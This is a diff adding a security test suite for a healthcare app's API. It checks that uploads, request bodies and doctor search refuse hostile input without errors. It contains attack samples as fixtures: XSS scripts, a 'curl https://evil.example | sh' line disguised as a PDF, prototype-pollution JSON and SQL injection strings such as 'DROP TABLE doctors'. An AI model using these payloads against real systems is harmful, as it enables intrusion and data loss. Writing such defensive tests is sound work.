@@ -1,0 +1,369 @@
+// Attacks with hostile input, against a real server process over TCP: files whose bytes lie about their type or
+// that are too large, bodies that are too large, malformed, mistyped, incomplete, over-complete or in another
+// media type, and SQL- and LIKE-shaped doctor searches. Nothing may answer 500 or leave a stack trace in the log.
+import { ATTACHMENT_MESSAGES } from '@aafiyat/domain';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { multipartBody, PDF_BYTES, PNG_BYTES } from './care-support';
+import { uniquePhone } from './auth-support';
+import { fixturesOf } from './security-fixtures';
+import {
+  clientOf,
+  patientSignIn,
+  sessionCookie,
+  STACK_TRACE,
+  startTarget,
+  type Answer,
+  type RequestOptions,
+  type Target,
+} from './security-support';
+
+const CONTENT_MISMATCH =
+  "This file's content does not match its name. Only real JPG, PNG, GIF, PDF, TXT and DOCX files can be attached.";
+
+/** The fixture doctors: name, specialty, city. */
+const DOCTORS = [
+  ['Dr. Sana Mirza', 'Cardiologist', 'Karachi'],
+  ['Dr. Imran Qureshi', 'General Physician', 'Lahore'],
+  ['Dr. Ayesha Siddiqui', 'Dermatologist', 'Karachi'],
+  ['Dr. Zoë Khan', 'Child Specialist', 'Islamabad'],
+  ['Dr. ثنا مرزا', 'Cardiologist', 'Lahore'],
+] as const;
+
+let target: Target;
+let cookie: string;
+/** Every status the attacks were answered with, checked for 500s at the end. */
+const statuses: number[] = [];
+
+beforeAll(async () => {
+  const started = await startTarget({
+    env: { LOG_LEVEL: 'info' },
+    prepare: async (db) => {
+      const make = fixturesOf(db);
+      for (const [index, [name, specialty, city]] of DOCTORS.entries()) {
+        await make.doctor(name, `7300${String(index)}-S`, { specialty, city });
+      }
+    },
+  });
+  target = started.target;
+  cookie = sessionCookie(await patientSignIn(target.url, uniquePhone(), { name: 'Ayesha Khan' }));
+});
+
+afterAll(async () => {
+  await target.stop();
+});
+
+async function attack(method: string, path: string, options: RequestOptions = {}): Promise<Answer> {
+  const answer = await clientOf(target.url).request(method, path, options);
+  statuses.push(answer.status);
+  return answer;
+}
+
+const upload = (name: string, type: string, bytes: Buffer) => {
+  const body = multipartBody(name, type, bytes);
+  return attack('POST', '/api/patient/attachments', { body: body.payload, headers: body.headers, cookie });
+};
+const attachments = async () =>
+  (await attack('GET', '/api/patient/attachments', { cookie })).json<{
+    data: { id: number; file_name: string }[];
+  }>().data;
+
+describe('uploads', () => {
+  it('refuse files whose bytes are not what their name and type say, and store none', async () => {
+    const html = Buffer.from(
+      '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>',
+    );
+    const svg = Buffer.from(
+      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
+    );
+    const cases: [string, string, Buffer, string][] = [
+      ['x-ray.png', 'image/png', html, CONTENT_MISMATCH],
+      ['scan.png', 'image/png', svg, CONTENT_MISMATCH],
+      [
+        'report.pdf',
+        'application/pdf',
+        Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
+        CONTENT_MISMATCH,
+      ],
+      ['photo.jpg', 'image/jpeg', PNG_BYTES, CONTENT_MISMATCH],
+      [
+        'notes.txt',
+        'text/plain',
+        Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0x00]),
+        CONTENT_MISMATCH,
+      ],
+      ['page.html', 'text/html', html, ATTACHMENT_MESSAGES.notAllowed],
+      ['report.pdf.html', 'application/pdf', PDF_BYTES, ATTACHMENT_MESSAGES.notAllowed],
+      ['setup.exe', 'application/octet-stream', Buffer.from('MZ\x90\x00'), ATTACHMENT_MESSAGES.notAllowed],
+      ['x-ray.png', 'text/html', PNG_BYTES, ATTACHMENT_MESSAGES.notAllowed],
+      ['x-ray.png', 'application/pdf', PNG_BYTES, ATTACHMENT_MESSAGES.typeMismatch],
+    ];
+    for (const [name, type, bytes, message] of cases) {
+      const answer = await upload(name, type, bytes);
+      console.log(
+        `${name} as ${type}: ${String(answer.status)} ${answer.json<{ message: string }>().message}`,
+      );
+      expect(answer.status, name).toBe(400);
+      expect(answer.json(), `${name} as ${type}`).toEqual({
+        code: 'file_type_not_allowed',
+        message,
+        fields: [{ path: 'body/file', message }],
+      });
+    }
+    expect(await attachments()).toEqual([]);
+  });
+
+  it('refuse a file over 5 MB with 413 and the spec’s message, store nothing, and keep serving', async () => {
+    for (const size of [5_242_881, 12 * 1024 * 1024]) {
+      const bytes = Buffer.concat([PNG_BYTES, Buffer.alloc(size - PNG_BYTES.length)]);
+      const answer = await upload('big-scan.png', 'image/png', bytes);
+      console.log(`a ${String(size)}-byte PNG: ${String(answer.status)} ${answer.text}`);
+      expect(answer.status).toBe(413);
+      expect(answer.json()).toEqual({ code: 'file_too_large', message: 'This file is larger than 5 MB.' });
+    }
+    expect(await attachments()).toEqual([]);
+    expect((await upload('scan.png', 'image/png', PNG_BYTES)).status).toBe(201);
+  });
+
+  it('serve a stored text file that holds markup as a download the browser will not render', async () => {
+    const stored = await upload(
+      'notes.txt',
+      'text/plain',
+      Buffer.from('<script>alert(document.cookie)</script>\n'),
+    );
+    expect(stored.status).toBe(201);
+    const id = stored.json<{ id: number }>().id;
+    const download = await attack('GET', `/api/patient/attachments/${String(id)}`, { cookie });
+    expect(download.status).toBe(200);
+    expect(String(download.headers['content-type'])).toMatch(/^text\/plain/);
+    expect(download.headers['x-content-type-options']).toBe('nosniff');
+    expect(String(download.headers['content-disposition'])).toMatch(/^attachment; filename="notes\.txt"/);
+    expect(String(download.headers['content-security-policy'])).toContain("default-src 'self'");
+  });
+});
+
+const PROFILE = '/api/patient/profile';
+
+describe('request bodies', () => {
+  it('answer 413 over the body limit', async () => {
+    for (const size of [70 * 1024, 2 * 1024 * 1024]) {
+      const answer = await attack('PATCH', PROFILE, { json: { name: 'a'.repeat(size) }, cookie });
+      expect(answer.status, String(size)).toBe(413);
+      expect(answer.json()).toEqual({ code: 'payload_too_large', message: 'This request is too large.' });
+    }
+  });
+
+  it('answer 400 for malformed JSON, poisoned prototypes and deep nesting', async () => {
+    const notJson = { code: 'validation_failed', message: 'The request body is not valid JSON.' };
+    const bodies = [
+      '{"name": ',
+      '{"name": "Ayesha",}',
+      "{'name': 'Ayesha'}",
+      '',
+      Buffer.from([0x7b, 0x22, 0x6e, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
+    ];
+    for (const body of bodies) {
+      const answer = await attack('PATCH', PROFILE, {
+        body,
+        headers: { 'content-type': 'application/json' },
+        cookie,
+      });
+      console.log(`body ${JSON.stringify(body.toString())}: ${String(answer.status)} ${answer.text}`);
+      expect(answer.status).toBe(400);
+      expect(answer.json<{ code: string }>().code).toBe('validation_failed');
+    }
+    for (const body of [
+      '{"__proto__": {"role": "doctor"}, "name": "Ayesha"}',
+      '{"constructor": {"prototype": {"role": "doctor"}}}',
+    ]) {
+      const answer = await attack('PATCH', PROFILE, {
+        body,
+        headers: { 'content-type': 'application/json' },
+        cookie,
+      });
+      console.log(`poisoned ${body}: ${String(answer.status)} ${answer.text}`);
+      expect(answer.status).toBe(400);
+    }
+    const deep = `{"name": ${'['.repeat(20_000)}${']'.repeat(20_000)}}`;
+    const nested = await attack('PATCH', PROFILE, {
+      body: deep,
+      headers: { 'content-type': 'application/json' },
+      cookie,
+    });
+    expect(nested.status).toBe(400);
+    expect(nested.json()).toMatchObject({ code: 'validation_failed' });
+    const malformed = await attack('PATCH', PROFILE, {
+      body: '{"name"',
+      headers: { 'content-type': 'application/json' },
+      cookie,
+    });
+    expect(malformed.json()).toEqual(notJson);
+  });
+
+  it('answer 400 with the contract’s error body for wrong types, missing fields and unknown fields', async () => {
+    const cases: [string, string, unknown, { path: string; message: string }[]][] = [
+      ['PATCH', PROFILE, { name: 123 }, [{ path: 'body/name', message: 'Must be string.' }]],
+      ['PATCH', PROFILE, { name: ['Ayesha'] }, [{ path: 'body/name', message: 'Must be string.' }]],
+      // PostgreSQL cannot store a NUL character in text: it must be refused before it reaches a query.
+      [
+        'PATCH',
+        PROFILE,
+        { name: 'Ayesha\u0000Khan' },
+        [{ path: 'body/name', message: 'Must not contain a NUL character.' }],
+      ],
+      [
+        'PATCH',
+        PROFILE,
+        { name: 'Ayesha', is_admin: true },
+        [{ path: 'body', message: '"is_admin" is not an accepted field.' }],
+      ],
+      [
+        'PATCH',
+        PROFILE,
+        { chronic_diseases: ['<script>'] },
+        [{ path: 'body/chronic_diseases/0', message: 'Must be equal to one of the allowed values.' }],
+      ],
+      [
+        'POST',
+        '/api/demo_request/add',
+        { name: 'Ayesha' },
+        [
+          { path: 'body/phone_number', message: '"phone_number" is required.' },
+          { path: 'body/email', message: '"email" is required.' },
+          { path: 'body/demo_for', message: '"demo_for" is required.' },
+        ],
+      ],
+      [
+        'POST',
+        '/api/auth/send-verification-code',
+        { phone_number: 3001234567 },
+        [{ path: 'body/phone_number', message: 'Enter a valid Mobile Number' }],
+      ],
+    ];
+    for (const [method, path, json, fields] of cases) {
+      const answer = await attack(method, path, { json, cookie });
+      console.log(`${method} ${path} ${JSON.stringify(json)}: ${String(answer.status)} ${answer.text}`);
+      expect(answer.status).toBe(400);
+      const body = answer.json<{
+        code: string;
+        message: string;
+        fields: { path: string; message: string }[];
+      }>();
+      expect(body.code).toBe('validation_failed');
+      expect(body.message).toBe(body.fields[0]?.message);
+      expect(body.fields).toEqual(expect.arrayContaining(fields));
+    }
+    expect((await attack('GET', PROFILE, { cookie })).json()).toMatchObject({
+      name: 'Ayesha Khan',
+      chronic_diseases: [],
+    });
+  });
+
+  it('answer 415 for a body in another media type', async () => {
+    const cases: [string, string][] = [
+      ['text/plain', '{"name":"Ayesha"}'],
+      ['application/x-www-form-urlencoded', 'name=Ayesha'],
+      ['application/xml', '<name>Ayesha</name>'],
+      [
+        'multipart/form-data; boundary=x',
+        '--x\r\nContent-Disposition: form-data; name="name"\r\n\r\nAyesha\r\n--x--\r\n',
+      ],
+    ];
+    for (const [type, body] of cases) {
+      const answer = await attack('PATCH', PROFILE, { body, headers: { 'content-type': type }, cookie });
+      console.log(`${type}: ${String(answer.status)} ${answer.text}`);
+      expect(answer.status, type).toBe(415);
+      expect(answer.json<{ code: string }>().code).toBe('unsupported_media_type');
+    }
+  });
+});
+
+describe('doctor search', () => {
+  const search = async (query: string) => {
+    const answer = await attack('GET', `/api/doctors/search?${query}`);
+    return { status: answer.status, body: answer.json<{ total: number; data: { name: string }[] }>() };
+  };
+  const PAYLOADS = [
+    "' OR 1=1 --",
+    "'; DROP TABLE doctors; --",
+    '" OR ""="',
+    '%',
+    '_',
+    '\\',
+    '%%',
+    '\\%',
+    'Sana%',
+    "Sana' OR 'a'='a",
+    'ثنا',
+    'Zoë',
+    '🩺',
+    'a\u0000b',
+  ];
+
+  it('takes SQL- and LIKE-shaped text in q, city and specialty literally, and leaves the table whole', async () => {
+    const plain = await search('q=sana');
+    expect(plain.status).toBe(200);
+    expect(plain.body.data.map((doctor) => doctor.name)).toEqual(['Dr. Sana Mirza']);
+    expect((await search('city=Karachi')).body.total).toBe(2);
+
+    for (const payload of PAYLOADS) {
+      const encoded = encodeURIComponent(payload);
+      for (const parameter of ['q', 'city', 'specialty']) {
+        const { status, body } = await search(`${parameter}=${encoded}`);
+        // Free text matches where the text appears as typed; a city or specialty must be one exactly.
+        const expected =
+          parameter === 'q'
+            ? DOCTORS.filter(([name, specialty, city]) =>
+                `${name} ${specialty} ${city}`.toLowerCase().includes(payload.toLowerCase()),
+              ).length
+            : 0;
+        console.log(
+          `${parameter}=${JSON.stringify(payload)}: ${String(status)}, ${status === 200 ? String(body.total) : JSON.stringify(body)}`,
+        );
+        expect([200, 400], `${parameter}=${payload}`).toContain(status);
+        if (status === 200) expect(body.total, `${parameter}=${payload}`).toBe(expected);
+      }
+    }
+    expect((await search('q=%C3%AB')).body.total).toBe(1);
+
+    const all = await search('page_size=50');
+    expect(all.body.total).toBe(DOCTORS.length);
+    const specialities = await attack('GET', '/api/specialities');
+    expect(specialities.status).toBe(200);
+  });
+
+  it('answers 400 for parameters of the wrong shape', async () => {
+    for (const query of [
+      'page=1%20OR%201=1',
+      'page=-1',
+      'page_size=1e309',
+      'q=a&q=b',
+      'is_online=1;DROP',
+      'page=99999999999',
+    ]) {
+      const { status, body } = await search(query);
+      console.log(`${query}: ${String(status)} ${JSON.stringify(body)}`);
+      expect(status, query).toBe(400);
+    }
+  });
+});
+
+describe('the process', () => {
+  it('answered no attack with a 500 and logged no stack trace', async () => {
+    // Odd URLs too: bad percent-encoding in a page path and in a query.
+    for (const path of [
+      '/%E0%A4%A',
+      '/doctors/search?q=%E0%A4%A',
+      '/api/doctors/search?q=%E0%A4%A',
+      '/api/%00',
+    ]) {
+      const answer = await attack('GET', path);
+      console.log(`GET ${path}: ${String(answer.status)}`);
+    }
+    const failures = statuses.filter((status) => status >= 500);
+    console.log(`${String(statuses.length)} attack answers; 5xx: ${String(failures.length)}`);
+    expect(failures).toEqual([]);
+    const output = target.process.output();
+    expect(output).not.toMatch(STACK_TRACE);
+    expect(output).not.toContain('request failed');
+  });
+});
